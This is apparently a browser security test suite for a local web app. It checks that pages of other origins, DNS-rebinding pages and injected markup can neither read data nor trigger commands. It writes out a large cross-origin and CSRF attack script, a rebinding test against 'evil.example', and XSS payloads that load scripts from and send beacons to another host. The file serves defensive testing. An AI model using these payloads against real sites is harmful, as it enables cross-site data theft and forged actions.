"""Pages of other origins, in the browser that has the cookie: they cannot read or change anything."""

from __future__ import annotations

import http.server
import json
import shutil
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from tdw.app import routes
from tests import chromium

pytestmark = pytest.mark.browser


@dataclass
class Elsewhere:
    """Another user's server on another port, which records its requests."""

    port: int
    pages: dict[str, str] = field(default_factory=dict)
    asked: list[tuple[str, dict[str, str]]] = field(default_factory=list)


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    class Page(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            there.asked.append((self.path, {name.lower(): value for name, value in self.headers.items()}))
            body = there.pages.get(self.path, "<!doctype html><meta charset=utf-8><p>elsewhere</p>").encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/javascript" if self.path.endswith(".js") else "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, *_: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page)
    there = Elsewhere(server.server_port)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    yield there
    server.shutdown()
    server.server_close()


# Everything a page can try on another origin. Each attempt returns what it could read, or "".
ATTACK = """async ([base, key, path]) => {
  const shell = SHELL;
  const told = {};
  const soon = (make) => new Promise((done) => { make(done); setTimeout(() => done(""), 8000); });
  const trying = [];
  const attempt = (name, act) => trying.push((async () => act())().then((found) => { told[name] = String(found ?? ""); }, () => { told[name] = ""; }));
  const read = async (address, options) => (await fetch(address, options)).text();
  const json = { method: "POST", headers: { "Content-Type": "application/json" } };
  const commands = { forget: { path }, open: { path }, train: { key }, analyze: { key }, stop: { key } };
  const element = (tag, attributes) => soon((done) => {
    const node = Object.assign(document.createElement(tag), attributes);
    const inside = () => node.contentDocument?.body?.innerText;
    const framed = tag === "iframe" || tag === "object"; // which do not report a refusal
    node.onload = () => done(framed ? inside() : "loaded");
    if (framed) setTimeout(() => done(inside()), 2500);
    node.onerror = () => done("");
    document.body.append(node);
  });
  for (const place of ["/", "/now", `/runs/${key}/manifest`, shell, "/favicon.ico", "/theme.css"]) {
    for (const credentials of ["include", "omit"]) {
      attempt(`fetch ${credentials} ${place}`, () => read(base + place, { credentials }));
      attempt(`fetch no-cors ${credentials} ${place}`, () => read(base + place, { credentials, mode: "no-cors" }));
    }
    attempt(`request ${place}`, () => soon((done) => {
      const request = new XMLHttpRequest();
      request.open("GET", base + place);
      request.withCredentials = true;
      request.onload = () => done(request.responseText);
      request.onerror = () => done("");
      request.send();
    }));
    attempt(`script ${place}`, () => element("script", { src: base + place }));
    attempt(`module ${place}`, () => element("script", { src: base + place, type: "module" }));
    attempt(`import ${place}`, async () => Object.keys(await import(base + place)));
    attempt(`style ${place}`, () => element("link", { href: base + place, rel: "stylesheet" }));
    attempt(`image ${place}`, () => element("img", { src: base + place }));
    attempt(`frame ${place}`, () => element("iframe", { src: base + place }));
    attempt(`object ${place}`, () => element("object", { data: base + place }));
    attempt(`worker ${place}`, () => soon((done) => {
      const worker = new Worker(base + place);
      worker.onmessage = () => done("a message");
      worker.onerror = () => done("");
    }));
  }
  for (const place of ["/events", "/gradio_api/queue/data?session_hash=x", "/gradio_api/heartbeat/x"]) {
    attempt(`stream ${place}`, () => soon((done) => {
      const source = new EventSource(base + place, { withCredentials: true });
      source.onmessage = (event) => done(event.data);
      source.onopen = () => done("open");
      source.onerror = () => { source.close(); done(""); };
    }));
    attempt(`socket ${place}`, () => soon((done) => {
      const socket = new WebSocket(base.replace("http", "ws") + place);
      socket.onopen = () => done("open");
      socket.onmessage = (event) => done(event.data);
      socket.onerror = () => done("");
    }));
  }
  for (const [command, given] of Object.entries(commands)) {
    const body = JSON.stringify(given);
    attempt(`${command} json`, () => read(`${base}/do/${command}`, { ...json, body, credentials: "include" }));
    attempt(`${command} blind`, () => read(`${base}/do/${command}`, { method: "POST", body, mode: "no-cors", credentials: "include" }));
    attempt(`${command} beacon`, () => { navigator.sendBeacon(`${base}/do/${command}`, body); return ""; });
    attempt(`${command} image`, () => element("img", { src: `${base}/do/${command}?path=${encodeURIComponent(path)}&key=${key}` }));
    for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
      attempt(`${command} form ${enctype}`, () => soon((done) => {
        const frame = Object.assign(document.createElement("iframe"), { name: `f${Math.random()}` });
        const form = Object.assign(document.createElement("form"), { action: `${base}/do/${command}`, method: "post", enctype, target: frame.name });
        form.append(Object.assign(document.createElement("input"), { name: body.slice(0, -1) + ',"x":"', value: '"}' }));
        document.body.append(frame, form);
        frame.onload = () => done(frame.contentDocument?.documentElement?.innerText);
        form.submit();
      }));
    }
  }
  const upload = new FormData();
  upload.append("files", new Blob(["stranger"]), "stranger.txt");
  attempt("upload", () => read(`${base}/gradio_api/upload`, { method: "POST", body: upload, mode: "no-cors", credentials: "include" }));
  attempt("predict", () => read(`${base}/gradio_api/run/predict`, { ...json, body: '{"data":[],"fn_index":0}', credentials: "include" }));
  for (const method of ["PUT", "DELETE", "PATCH"]) attempt(method, () => read(`${base}/do/forget`, { method, credentials: "include" }));
  attempt("service worker", async () => Boolean(await navigator.serviceWorker.register(base + shell)));
  attempt("window", () => soon((done) => {
    const opened = window.open(base + "/");
    if (!opened) return done("");
    setTimeout(() => {
      try { done(opened.document.body.innerText); } catch { try { done(opened.tdwShell ? "reached" : ""); } catch { done(""); } }
      opened.close();
    }, 700);
  }));
  await Promise.all(trying);
  told["what ran"] = String([window.tdwShell, window.tdw, window.Plotly].filter(Boolean).length || "");
  return told;
}""".replace("SHELL", json.dumps(routes.addresses()["app/shell.js"].removeprefix(".")))

INSIDE = """<!doctype html><meta charset="utf-8"><script>
addEventListener("message", async (event) => { parent.postMessage(await (ATTACK)(event.data), "*"); });
parent.postMessage("here", "*");
</script>"""

WRAPPER = """<!doctype html><meta charset="utf-8"><body><script>
const frame = document.createElement("iframe");
window.run = (given) => new Promise((done) => {
  addEventListener("message", (event) => (event.data === "here" ? frame.contentWindow.postMessage(given, "*") : done(event.data)));
  ATTRIBUTES
  document.body.append(frame);
});
</script>"""


def attack_from(place: str, elsewhere: Elsewhere, tmp_path: Path) -> tuple[str, str]:
    """The address of a page of another origin, and the call that starts the attack there."""
    inside = INSIDE.replace("ATTACK", ATTACK)
    attributes = {
        "sandboxed": 'frame.setAttribute("sandbox", "allow-scripts allow-forms allow-popups"); frame.srcdoc = TEXT;',
        "data": "frame.src = 'data:text/html;base64,' + btoa(TEXT);",
    }
    if place in attributes:
        text = json.dumps(inside).replace("</", "<\\/")
        elsewhere.pages["/wrapped"] = WRAPPER.replace("ATTRIBUTES", attributes[place].replace("TEXT", text))
        return f"http://127.0.0.1:{elsewhere.port}/wrapped", "(given) => window.run(given)"
    if place == "file":
        page = tmp_path / "page.html"
        page.write_text("<!doctype html><p>on disk</p>")
        return page.as_uri(), ATTACK
    return f"http://{place}:{elsewhere.port}/", ATTACK


@pytest.mark.parametrize("place", ["127.0.0.1", "localhost", "sandboxed", "data", "file"])
def test_a_page_of_another_origin_reads_and_triggers_nothing(browser, window, elsewhere, tmp_path, tiny_run, place):
    victim = Path(shutil.copy(tiny_run, tmp_path / "victim.tdw"))
    status, answer = window.do("open", path=str(victim))
    assert status == 200
    before, base = victim.read_bytes(), f"http://{window.host}"
    context = browser.new_context()
    sent: list[str] = []
    answers: list[tuple[str, int]] = []
    try:
        own = context.new_page()
        own.goto(window.address)
        own.wait_for_function(
            "window.tdw && tdw.count > 0 && tdw.painted >= 0"
        )  # the cookie is there: same host, same jar
        address, start = attack_from(place, elsewhere, tmp_path)
        stranger = context.new_page()
        stranger.goto(address)
        context.on("request", lambda request: sent.append(request.url))
        line = context.new_cdp_session(stranger)  # also shows responses that the browser hides from the page
        line.send("Network.enable")
        asked: dict[str, str] = {}
        line.on("Network.requestWillBeSent", lambda event: asked.update({event["requestId"]: event["request"]["url"]}))
        line.on(
            "Network.responseReceivedExtraInfo", lambda event: answers.append((event["requestId"], event["statusCode"]))
        )
        told = stranger.evaluate(start, [base, answer["key"], str(victim)])
        assert len(told) > 120
        assert {name: text for name, text in told.items() if text} == {}
        statuses = [(status, asked[name]) for name, status in answers if asked.get(name, "").startswith(base)]
        assert [one for one in statuses if one[0] not in {401, 403, 421}] == []
        # The attacks did reach the server. Requests of frames in separate processes are not all reported.
        if place in {"sandboxed", "data"}:
            assert any(url.startswith(base) for url in sent)
        else:
            # How many there are differs: Chromium answers some from its cache, as imports of a module that it has asked for.
            reached = {urlsplit(url).path for _, url in statuses}
            assert {"/", "/now", "/favicon.ico", "/theme.css", "/events", f"/runs/{answer['key']}/manifest"} <= reached
            assert {f"/do/{command}" for command in ("forget", "open", "train", "analyze", "stop")} <= reached
        assert own.evaluate("tdw.count") > 0
    finally:
        context.close()
    news = json.loads(window.get("/now"))
    assert next(one for one in news if one["type"] == "jobs")["jobs"] == []
    entries = next(one for one in news if one["type"] == "recent")["entries"]
    assert str(victim) in {entry["path"] for entry in entries}
    assert victim.read_bytes() == before
    assert sorted(path.name for path in tmp_path.iterdir() if path.suffix != ".html") == ["victim.tdw"]


def test_a_name_that_was_bound_to_this_machine_is_not_ours(window):
    """DNS rebinding: the browser treats the attacker's page and this server as one origin, and sends no Origin."""
    from playwright.sync_api import sync_playwright

    def attempt() -> list[Any]:
        with sync_playwright() as playwright:
            running = chromium.launch(playwright, "--host-resolver-rules=MAP evil.example 127.0.0.1")
            try:
                page = running.new_page()
                reply = page.goto(f"http://evil.example:{window.port}/")
                read = "async (place) => { const reply = await fetch(place, {method: place.startsWith('/do') ? 'POST' : 'GET'}); return reply.status; }"
                statuses = [
                    page.evaluate(read, place) for place in ("/now", "/events", "/do/open", "/gradio_api/upload")
                ]
                tried = page.goto(f"http://evil.example:{window.port}/?token={window.token}")
                return [reply.status, *statuses, tried.status, page.context.cookies()]
            finally:
                running.close()

    assert _apart(attempt) == [421, 421, 421, 421, 421, 421, []]


def test_injected_markup_does_not_run_or_send_data(browser, window, elsewhere, tiny_run):
    """If a text were inserted as HTML, the security policy of the page would still block its scripts."""
    assert window.do("open", path=str(tiny_run))[0] == 200
    elsewhere.pages["/evil.js"] = "window.ran = 'a script from elsewhere';"
    context = browser.new_context()
    try:
        page = context.new_page()
        page.add_init_script(
            "window.refused = []; document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));"
        )
        page.goto(window.address)
        page.wait_for_function("window.tdw && tdw.count > 0 && tdw.painted >= 0")
        assert page.evaluate("refused") == [], "the page itself does nothing that its policy refuses"
        page.evaluate(
            """async (other) => {
              const place = document.createElement("div");
              document.body.append(place);
              place.innerHTML = `<img src="x" onerror="window.ran = 'a handler'"><svg onload="window.ran = 'svg'"></svg>
                <a href="javascript:window.ran = 'an address'">a</a><iframe srcdoc="<script>parent.ran = 'a frame'</script>"></iframe>
                <iframe src="${other}/"></iframe><object data="${other}/"></object><embed src="${other}/">
                <link rel="stylesheet" href="${other}/style.css"><form action="${other}/"><button>b</button></form>
                <img src="${other}/leak.png"><video src="${other}/v"></video><base href="${other}/">
                <meta http-equiv="refresh" content="99;url=${other}/">`;
              place.querySelector("a").click();
              place.querySelector("button").click();
              const script = (given) => document.head.append(Object.assign(document.createElement("script"), given));
              script({ textContent: "window.ran = 'a script'" });
              script({ src: `${other}/evil.js` });
              script({ src: "data:text/javascript,window.ran='data'" });
              script({ src: URL.createObjectURL(new Blob(["window.ran = 'blob'"], { type: "text/javascript" })) });
              document.body.setAttribute("onclick", "window.ran = 'an attribute'");
              document.body.click();
              await Promise.allSettled([fetch(`${other}/leak`), import(`${other}/evil.js`)]);
              navigator.sendBeacon(`${other}/beacon`, "x");
              for (const Kind of [EventSource, WebSocket, Worker]) try { new Kind(`${other}/k`); } catch { /* refused */ }
              await new Promise((done) => setTimeout(done, 300));
            }""",
            f"http://127.0.0.1:{elsewhere.port}",
        )
        refused = set(page.evaluate("refused"))
        assert page.evaluate("window.ran") is None
        assert {"script-src-attr", "script-src-elem", "connect-src", "frame-src", "img-src", "form-action"} <= refused
        assert elsewhere.asked == []
    finally:
        context.close()


@pytest.mark.parametrize("way", ["link", "location", "open", "from the way in"])
def test_the_token_is_in_no_referrer(browser, window, elsewhere, way):
    elsewhere.pages["/told"] = (
        "<!doctype html><script>window.told = [document.referrer, String(window.opener)];</script>"
    )
    target = f"http://localhost:{elsewhere.port}/told"
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(window.address)
        page.wait_for_selector(".tdw-themes")
        assert window.token not in page.url
        assert window.token not in page.content()
        assert window.token not in page.evaluate(
            "JSON.stringify([localStorage, sessionStorage, document.cookie, history.state, name])"
        )
        if way == "from the way in":  # back to an address with the token, which redirects at once
            page.goto(window.address)
            page.evaluate("(there) => { location.href = there; }", target)
        elif way == "location":
            page.evaluate("(there) => { location.href = there; }", target)
        else:
            with page.expect_popup() if way == "open" else page.expect_navigation(url=target) as found:
                page.evaluate(
                    """([way, there]) => {
                      const link = Object.assign(document.createElement("a"), { href: there, textContent: "on" });
                      document.body.append(link);
                      if (way === "open") window.open(there); else link.click();
                    }""",
                    [way, target],
                )
            page = found.value if way == "open" else page
        page.wait_for_function("window.told !== undefined")
        assert page.evaluate("told[0]") == ""
        asked = [path for path, _ in elsewhere.asked]
        assert "/told" in asked
        for path, headers in elsewhere.asked:
            assert path != "/told" or "referer" not in headers  # the page itself requests its icon
            assert str(window.port) not in headers.get("referer", "")
            assert window.token not in json.dumps(headers)
    finally:
        context.close()


def _apart(act: Callable[[], Any]) -> Any:
    """Playwright starts once per thread."""
    found: list[Any] = []
    thread = threading.Thread(target=lambda: found.append(act()))
    thread.start()
    thread.join()
    return found[0]
